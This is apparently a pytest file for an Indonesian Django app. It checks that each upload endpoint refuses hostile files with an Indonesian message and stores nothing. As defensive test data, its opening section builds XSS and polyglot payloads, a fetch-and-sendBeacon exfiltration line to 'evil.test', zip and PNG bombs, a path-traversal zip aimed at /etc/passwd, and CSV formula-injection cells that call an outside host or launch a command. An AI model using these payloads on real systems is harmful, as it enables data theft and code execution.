"""Every upload endpoint refuses malformed and mislabelled files cleanly.

Each endpoint gets the same pile of hostile files (made here, nothing binary is committed): empty,
web pages and scripts dressed as images or PDFs, a PDF with JavaScript, truncated images, a GIF that
is also a script, programs, zips that are bombs, escape their folder or hold too many entries,
text in the wrong encoding, an office file that is a zip of junk, a CSV with formulas or 10,000
columns, a file above the limit and double extensions. The person sees a message in Indonesian on the
page (never a server error or a trace), nothing is stored — no row, no file in private storage, no
audit entry — and what they typed in the form is still there.
"""

from __future__ import annotations

import datetime
import functools
import io
import os
import zipfile
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation

from governance.models import AuditEntry, Membership, Publication, RuleCategory
from governance.tests.factories import OfficialAccountFactory
from members.models import GroupMembership, ImportJob, StaffMember
from reports.models import AssessmentPeriod
from reports.models import Evidence as ReportEvidence
from reports.selectors import criteria_for
from reports.tests.factories import make_period, small_rubric
from sanctions.models import CaseEvidence, ViolationReport
from sanctions.tests.factories import (
    StaffMemberFactory,
    group,
    join,
    jpeg_bytes,
    pdf_bytes,
    png_bytes,
    publish_code,
    rule_ids,
    staff_for,
)
from triage.models import ChatImport, ChatMessage
from triage.tests.factories import imported_chat

# --- the hostile files --------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
JS = b"fetch('/instansi/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.test', t));\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x90" * 400
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300
JUNK = bytes((i * 7919 + 13) % 256 for i in range(4096))


def _zip(entries, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def pdf_with_javascript() -> bytes:
    original = pdf_bytes()
    cut = original.rindex(b"startxref")
    return (original[:cut] + b"99 0 obj << /Type /Action /S /JavaScript /JS (app.alert(1)) >> endobj\n"
            + original[cut:])


def gif_polyglot() -> bytes:
    # A GIF header that is also valid JavaScript ("GIF89a=..."), the classic image/script polyglot.
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=1;alert(document.domain);//" + b"\x00" * 20 + b";"


def zip_bomb() -> bytes:
    # A chat export whose text unpacks to far more than any real chat: highly compressible zeros.
    return _zip([("WhatsApp Chat dengan Grup Guru.txt", b"0" * (80 * 1024 * 1024))])


def zip_traversal() -> bytes:
    chat = b"14/11/24 07.00 - Budi Santoso: Selamat pagi\n"
    return _zip([("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
                 ("/tmp/WhatsApp Chat dengan Grup Guru.txt", chat),
                 ("..\\..\\WhatsApp Chat dengan Grup.txt", chat)])


def zip_too_many() -> bytes:
    return _zip([(f"IMG-2024111{n % 10}-WA{n:05d}.jpg", b"") for n in range(10_050)], compression=zipfile.ZIP_STORED)


def xlsx_of_junk() -> bytes:
    return _zip([("[Content_Types].xml", b"<Types>junk"), ("xl/workbook.xml", JUNK), ("xl/worksheets/sheet1.xml", JUNK),
                 ("docProps/app.xml", b"\x00\x01\x02")])


def png_bomb() -> bytes:
    """A PNG whose header claims 50,000 × 50,000 pixels (2.5 billion) in a few dozen bytes."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + chunk(b"IEND", b""))


def docx_with_macros() -> bytes:
    return _zip([("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
                 ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
                 ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)])


def formula_csv() -> bytes:
    return (b"NIP;Nama;Jabatan;Status Kepegawaian;No. HP;Email\n"
            b'198005172005011001;=HYPERLINK("http://evil.test/?x="&A1,"klik");Guru;PNS;+cmd|\' /C calc\'!A0;@SUM(1+1)\n'
            )


def formula_posts_csv() -> bytes:
    """The publication log's own columns, a real account, and a topic that is a formula."""
    from governance.imports import SAMPLE_HEADER

    day = (datetime.date.today() - datetime.timedelta(days=2)).strftime("%d/%m/%Y")
    row = [day, "09.30", ACCOUNT, "", '=HYPERLINK("http://evil.test/?c="&A1,"Pelayanan")', "ya", "ya", "ya", "ya",
           "ya", ""]
    return (";".join(SAMPLE_HEADER) + "\n" + ";".join(row) + "\n").encode()


def wide_csv() -> bytes:
    return (",".join(f"kolom{n}" for n in range(10_000)) + "\n" + ",".join("1" for _ in range(10_000)) + "\n").encode()


@dataclass(frozen=True)
class Bad:
    label: str
    name: str
    data: bytes
    content_type: str


@functools.cache
def hostile_files() -> list[Bad]:
    """Made once, when the first test needs them (not while tests are collected)."""
    jpeg, png = jpeg_bytes(), png_bytes()
    return [
        Bad("empty", "kosong.jpg", b"", "image/jpeg"),
        Bad("html as jpg", "layar.jpg", HTML, "image/jpeg"),
        Bad("svg as png", "layar.png", SVG, "image/png"),
        Bad("js as pdf", "surat.pdf", JS, "application/pdf"),
        Bad("html as pdf", "surat.pdf", HTML, "application/pdf"),
        Bad("pdf with javascript", "surat.pdf", pdf_with_javascript(), "application/pdf"),
        Bad("truncated jpeg", "potong.jpg", jpeg[: len(jpeg) // 2], "image/jpeg"),
        Bad("truncated png", "potong.png", png[: len(png) // 2], "image/png"),
        Bad("gif+js polyglot", "lucu.gif", gif_polyglot(), "image/gif"),
        Bad("png bomb", "layar.png", png_bomb(), "image/png"),
        Bad("docx with macros", "laporan.docx", docx_with_macros(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        Bad("exe", "bukti.jpg.exe", EXE, "application/x-msdownload"),
        Bad("exe as jpg", "bukti.jpg", EXE, "image/jpeg"),
        Bad("elf as png", "bukti.png", ELF, "image/png"),
        Bad("zip bomb", "WhatsApp Chat dengan Grup Guru.zip", zip_bomb(), "application/zip"),
        Bad("zip path traversal", "WhatsApp Chat dengan Grup Guru.zip", zip_traversal(), "application/zip"),
        Bad("zip too many entries", "WhatsApp Chat dengan Grup Guru.zip", zip_too_many(), "application/zip"),
        Bad("utf-16 text without chat", "catatan.txt", "Catatan rapat\nTidak ada obrolan di sini\n".encode("utf-16"),
            "text/plain"),
        Bad("invalid utf-8", "WhatsApp Chat dengan Grup Guru.txt", b"14/11/24 07.00 - Budi: \xff\xfe\xc3\x28 \xa0\xa1\n" * 3,
            "text/plain"),
        Bad("binary junk as txt", "WhatsApp Chat dengan Grup Guru.txt", JUNK, "text/plain"),
        Bad("xlsx of junk", "pegawai.xlsx", xlsx_of_junk(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        Bad("formula csv", "pegawai.csv", formula_csv(), "text/csv"),
        Bad("formula csv of posts", "publikasi.csv", formula_posts_csv(), "text/csv"),
        Bad("10k columns csv", "pegawai.csv", wide_csv(), "text/csv"),
        Bad("double extension", "bukti.jpg.exe", HTML, "image/jpeg"),
        Bad("wrong content type", "bukti.png", JS, "image/png"),
    ]


ACCOUNT = "Instagram Resmi Instansi A"
INDONESIAN = ("berkas", "tidak", "bukan", "unggah", "kosong", "rusak", "gambar", "pilih", "ukuran", "terlalu",
              "kolom", "rumus", "ekspor", "obrolan", "baris", "simpan")


def upload(bad: Bad) -> SimpleUploadedFile:
    return SimpleUploadedFile(bad.name, bad.data, content_type=bad.content_type)


# --- the world: one institution where every upload endpoint is open ------------------------------

def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def place(side_a, unscoped, settings, tmp_path):
    """Institution A with staff, a group, a published code, a filed report, a chat import with a
    flag, and an open self-assessment; private storage in a fresh folder."""
    settings.STORAGES = {**settings.STORAGES, "default": {**settings.STORAGES["default"],
                                                          "OPTIONS": {"location": str(tmp_path), "base_url": "/-/"}}}
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    from django.core.files.storage import default_storage

    assert default_storage.location == str(tmp_path)  # so that "no new file" looks where files go
    side = side_a
    inst = side.institution
    Membership.objects.filter(institution__in=[inst, side.parent]).update(starts_on=datetime.date(2020, 1, 1))
    publish_code(inst)
    for role, user in side.users.items():
        if role != "penilai":
            staff_for(user, inst)
    side.channel = group(inst, name="Grup Guru dan Pegawai")
    side.budi = StaffMemberFactory(institution=inst, full_name="Budi Santoso, S.Pd.", position="Guru IPA")
    OfficialAccountFactory(institution=inst, name=ACCOUNT)
    join(side.channel, side.budi)
    from sanctions.tests.factories import file_report

    side.report = file_report(inst, reporter=side.users["pegawai"], subject_staff=side.budi)
    chat = imported_chat(inst, humas=side.users["humas"], channel=side.channel)
    side.flag = chat.flags.order_by("pk").first()
    period = make_period(side.parent, rubric=small_rubric(side.parent), state=AssessmentPeriod.State.SELF_ASSESSMENT)
    from reports.models import Entry

    side.entry = Entry.objects.get(period=period, institution=inst)
    side.criterion = criteria_for(period)[0]
    side.storage = tmp_path
    return side


def stored_files(root) -> set[str]:
    return {os.path.join(folder, name) for folder, _dirs, names in os.walk(root) for name in names}


def snapshot(place) -> dict:
    return {
        "files": stored_files(place.storage),
        "audit": AuditEntry.objects.count(),
        "reports": ViolationReport.objects.count(), "evidence": CaseEvidence.objects.count(),
        "chat_imports": ChatImport.objects.count(), "chat_messages": ChatMessage.objects.count(),
        "import_jobs": ImportJob.objects.count(), "staff": StaffMember.objects.count(),
        "group_memberships": GroupMembership.objects.count(), "publications": Publication.objects.count(),
        "report_evidence": ReportEvidence.objects.count(),
    }


def page_text(response) -> str:
    body = response.content.decode()
    assert "Traceback" not in body and "Server Error" not in body
    return body


def refusal_messages(response) -> list[str]:
    """What the page tells the person: form errors and flashed error messages (in the page's language)."""
    with translation.override(response.get("Content-Language", "id")):
        return _refusal_messages(response)


def _refusal_messages(response) -> list[str]:
    context = response.context
    texts = []
    form = context.get("form") if context else None
    if form is not None:
        for errors in form.errors.values():
            texts.extend(str(e) for e in errors)
    preview = context.get("preview") if context else None
    if preview is not None:
        assert not preview.ok, "the preview offers the hostile file for import"
        texts.extend(str(error.message) for error in preview.errors)
    if context and context.get("messages"):
        texts.extend(str(m) for m in context["messages"] if "error" in m.tags or "danger" in m.tags)
    return texts


def assert_refused_in_indonesian(response):
    assert response.status_code in (200, 400), response.status_code
    body = page_text(response)
    texts = refusal_messages(response)
    assert texts, "the page says nothing about the refused file"
    for text in texts:
        assert any(word in text.lower() for word in INDONESIAN), f"not an Indonesian message: {text!r}"
        assert text.split("<")[0].strip()[:20] in body.replace("&#x27;", "'").replace("&quot;", '"')


# --- the endpoints ----------------------------------------------------------------------------------

@dataclass
class Endpoint:
    name: str
    role: str
    url: callable
    data: callable  # place -> form fields besides the file
    field: str
    follow: bool = False
    kept: tuple = ()  # form fields whose typed value must still be in the form shown again


def _url(name, place, **kwargs):
    return reverse(name, kwargs={"institution": place.institution.slug, **kwargs})


ENDPOINTS = [
    Endpoint("report_create", "pegawai", lambda p: _url("sanctions:report_create", p),
             lambda p: {"subject_kind": "staff", "subject_staff": p.budi.pk, "occurred_on": "2024-11-14",
                        "channel": p.channel.pk,
                        "rules": rule_ids(p.institution, RuleCategory.HOAX),
                        "description": "Budi menyebarkan kabar tidak benar tentang ujian."},
             "evidence", kept=("description", "subject_staff", "channel", "occurred_on")),
    Endpoint("evidence_add", "humas", lambda p: _url("sanctions:evidence_add", p, pk=p.report.pk), lambda p: {},
             "evidence", follow=True),
    Endpoint("chat_flag_report", "humas", lambda p: _url("triage:chat_flag_report", p, pk=p.flag.pk),
             lambda p: {"occurred_on": "2024-11-14", "rules": rule_ids(p.institution, RuleCategory.HOAX),
                        "description": "Pesan hoaks di grup pada pagi hari."},
             "evidence", kept=("description", "occurred_on")),
    Endpoint("chat_upload", "humas", lambda p: _url("triage:chat_upload", p, channel_pk=p.channel.pk),
             lambda p: {}, "file"),
    Endpoint("members_import_staff", "operator", lambda p: _url("members:import_start", p),
             lambda p: {"kind": "staff"}, "file", kept=("kind",)),
    Endpoint("members_import_groups", "operator", lambda p: _url("members:import_start", p),
             lambda p: {"kind": "groups"}, "file", kept=("kind",)),
    Endpoint("publication_import", "humas", lambda p: _url("governance:publication_import", p), lambda p: {}, "file"),
    Endpoint("self_assessment_evidence", "humas",
             lambda p: _url("reports:evidence_upload", p, pk=p.entry.pk, criterion=p.criterion.pk), lambda p: {},
             "file", follow=True),
]


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda e: e.name)
def test_every_hostile_file_is_refused_cleanly_and_nothing_is_stored(place, endpoint, settings):
    settings.SANTUN_EVIDENCE_MAX_BYTES = 5 * 1024 * 1024
    client = login(place.users[endpoint.role])
    before = snapshot(place)
    failures = []
    for bad in hostile_files():
        data = {**endpoint.data(place), endpoint.field: upload(bad)}
        response = client.post(endpoint.url(place), data, follow=endpoint.follow)
        try:
            assert_refused_in_indonesian(response)
            form = response.context.get("form") if endpoint.kept else None
            typed = endpoint.data(place)
            for field in endpoint.kept:
                assert str(form[field].value()) == str(typed[field]), f"the form lost {field}"
            if "description" in endpoint.kept:
                assert typed["description"] in response.content.decode()
            assert snapshot(place) == before, "something was stored"
        except AssertionError as error:
            failures.append(f"{bad.label}: {error}")
            before = snapshot(place)
    assert failures == []


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda e: e.name)
def test_a_file_above_the_size_limit_is_refused(place, endpoint, settings, monkeypatch):
    settings.SANTUN_EVIDENCE_MAX_BYTES = 1000
    settings.SANTUN_CHAT_UPLOAD_MAX_BYTES = 1000
    from governance import imports as publication_imports
    from members import forms as member_forms
    from reports import services as report_services

    big = b"A" * (64 * 1024)
    for module, attribute in ((publication_imports, "MAX_BYTES"), (member_forms, "MAX_UPLOAD_BYTES"),
                              (report_services, "MAX_EVIDENCE_BYTES")):
        monkeypatch.setattr(module, attribute, 1000)
    client = login(place.users[endpoint.role])
    before = snapshot(place)
    response = client.post(endpoint.url(place), {**endpoint.data(place),
                                                 endpoint.field: SimpleUploadedFile("besar.png", png_bytes() + big,
                                                                                    content_type="image/png")},
                           follow=endpoint.follow)
    assert_refused_in_indonesian(response)
    assert snapshot(place) == before
